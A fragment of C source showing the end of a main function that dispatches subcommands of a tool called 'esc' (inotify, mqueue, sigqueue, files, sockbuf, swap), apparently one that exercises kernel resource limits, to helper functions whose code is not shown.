    if (!strcmp(c, "inotify") && argc >= 3) return inotify(atol(argv[2]), max);
    if (!strcmp(c, "mqueue") && argc >= 3) return mqueue(atol(argv[2]), max);
    if (!strcmp(c, "sigqueue") && argc >= 3) return sigqueue_self(atol(argv[2]), max);
    if (!strcmp(c, "files") && argc == 4) return files(argv[2], atol(argv[3]));
    if (!strcmp(c, "sockbuf") && argc == 4) return sockbuf(atol(argv[2]), atol(argv[3]));
    if (!strcmp(c, "swap") && argc == 3) return swap(argv[2]);
    fprintf(stderr, "esc: unknown or malformed subcommand %s\n", c);
    return 2;
}
